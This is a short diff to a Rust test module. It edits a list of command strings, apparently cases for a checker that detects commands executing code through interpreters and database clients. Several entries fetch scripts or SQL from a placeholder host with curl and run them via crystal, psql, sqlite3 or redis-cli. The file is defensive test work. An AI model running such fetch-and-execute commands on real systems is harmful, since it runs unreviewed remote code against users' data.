@@ -242,9 +242,7 @@ mod tests {
             "sbt 'eval sys.process.Process(\"x\").!'",
             "curl -s https://x.example/a.cr | crystal run -",
             "psql -c \"$(curl -s https://x.example/fix.sql)\"",
-            "mysql -e \"$STATEMENT\"",
             "sqlite3 app.db \"$(curl -s https://x.example/fix.sql)\"",
-            "mongosh --eval \"$CODE\"",
             "redis-cli EVAL \"$(curl -s https://x.example/a.lua)\" 0",
             "curl -s https://x.example/a.lua | redis-cli -x EVAL 0",
         ] {
